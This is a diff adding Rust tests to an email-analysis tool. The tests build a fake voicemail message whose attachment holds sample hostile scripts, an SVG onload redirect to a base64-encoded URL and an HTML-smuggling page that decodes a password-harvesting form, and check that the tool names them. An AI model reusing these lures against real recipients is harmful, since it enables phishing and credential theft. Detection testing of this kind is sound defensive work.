@@ -580,3 +580,69 @@ fn malformed_mail_is_analysed_best_effort_with_the_defect_named() {
     );
     assert!(ids(&v).contains(&"links.ip_literal_host".to_string()));
 }
+
+/// A mail with one attachment, for the attachment tests.
+fn mail_with_attachment(name: &str, ctype: &str, content: &str) -> Vec<u8> {
+    use base64::Engine as _;
+    let body = base64::engine::general_purpose::STANDARD.encode(content);
+    format!(
+        "From: \"Voice Mail\" <voicemail@pbx.example.net>\r\nTo: sales@example.org\r\nSubject: New voicemail 00:47\r\n\
+         Date: Mon, 17 Nov 2025 08:01:00 +0000\r\nMessage-ID: <vm1@pbx.example.net>\r\nMIME-Version: 1.0\r\n\
+         Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
+         You have a new voice message. Open the attachment to listen.\r\n--b1\r\nContent-Type: {ctype}; name=\"{name}\"\r\n\
+         Content-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n--b1--\r\n"
+    )
+    .into_bytes()
+}
+
+fn finding<'a>(v: &'a Value, id: &str) -> Option<&'a Value> {
+    v["findings"].as_array().unwrap().iter().find(|f| f["id"] == id)
+}
+
+#[test]
+fn attachment_scripts_that_redirect_or_smuggle_a_page_are_named() {
+    use base64::Engine as _;
+    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
+    // An SVG whose onload handler sends the browser to an address written in base64.
+    let svg = format!(
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.location.href=atob('{}')\"><text>Play</text></svg>",
+        b64("https://vm-audio.example.xyz/play?id=7")
+    );
+    let out = kaibo_stdin(
+        &["analyze", "--format", "json", "-"],
+        &mail_with_attachment("VM_0047.svg", "image/svg+xml", &svg),
+    );
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let f = finding(&v, "attachment.html_script").unwrap_or_else(|| panic!("{v:#}"));
+    let text = f["evidence"].to_string();
+    assert!(text.contains("location.href =") && text.contains("atob()"), "{f:#}");
+    assert!(text.contains("https://vm-audio.example.xyz/play?id=7"), "{f:#}");
+    assert!(v["observables"]["urls"].to_string().contains("vm-audio.example.xyz"), "{v:#}");
+    assert_ne!(v["verdict"], "clean");
+
+    // HTML smuggling: the page is written by the script from base64; its form is read too.
+    let page = b64(
+        "<html><body><form action=\"https://kit.example.top/p.php\"><input type=\"password\" name=\"p\"></form></body></html>",
+    );
+    let html = format!("<html><body><script>document.write(atob(\"{page}\"));</script></body></html>");
+    let out = kaibo_stdin(
+        &["analyze", "--format", "json", "-"],
+        &mail_with_attachment("Remittance.htm", "text/html", &html),
+    );
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert!(finding(&v, "attachment.html_script").is_some(), "{v:#}");
+    assert!(ids(&v).contains(&"content.html_form".to_string()), "{v:#}");
+    assert!(v["observables"]["urls"].to_string().contains("kit.example.top"), "{v:#}");
+
+    // A saved web page with an analytics snippet and a pop-up helper does nothing on opening.
+    let saved = r#"<html><head><script>var h = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");
+        document.write(unescape("%3Cscript src='" + h + "google-analytics.com/ga.js'%3E%3C/script%3E"));
+        function pop(p) { var w = window.open(p, 'n', 'height=400'); w.focus(); }</script></head>
+        <body onLoad="window.focus();"><p>Quarterly figures</p></body></html>"#;
+    let out = kaibo_stdin(
+        &["analyze", "--format", "json", "-"],
+        &mail_with_attachment("figures.html", "text/html", saved),
+    );
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert!(finding(&v, "attachment.html_script").is_none(), "{v:#}");
+}
